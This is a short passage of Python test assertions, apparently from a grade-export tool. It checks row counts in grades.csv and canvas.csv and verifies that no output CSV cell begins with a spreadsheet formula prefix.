        rows = list(csv.DictReader((out / "grades.csv").open(encoding="utf-8")))
        assert len(rows) == len(graded)
        for path in out.glob("*.csv"):
            assert not [c for c in _all_cells(path) if c.startswith(FORMULA)], path
        assert len(list(csv.reader((out / "canvas.csv").open()))) == 2 + len(people)
